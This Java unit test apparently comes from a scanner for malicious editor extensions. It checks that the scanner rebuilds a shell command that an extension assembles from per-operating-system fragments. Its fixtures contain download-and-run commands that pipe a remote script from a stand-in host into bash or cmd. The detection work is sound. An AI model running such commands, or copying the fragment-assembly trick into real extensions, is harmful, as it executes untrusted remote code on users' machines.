package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A command that is put together of parts which are chosen for the system it runs on. */
class TextsForEachSystemTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "FETCH[os] + 'https://parts.example/a.sh' + PIPE[os]",
                "`${FETCH[os]}https://parts.example/a.sh${PIPE[os]}`",
                "[FETCH[os], 'https://parts.example/a.sh', PIPE[os]].join('')",
            })
    void readsTheCommandOfEach(String command) {
        Analysis analysis = Analysis.ofActivate("""
                const os = process.platform;
                const FETCH = { win32: 'curl -s ', darwin: 'curl -L ', linux: 'curl -L ' };
                const PIPE = { win32: ' | cmd', darwin: ' | sh', linux: ' | bash' };
                cp.exec(%s);
                """.formatted(command));

        assertThat(analysis.commands())
                .contains("curl -L https://parts.example/a.sh | bash", "curl -s https://parts.example/a.sh | cmd");
    }
}
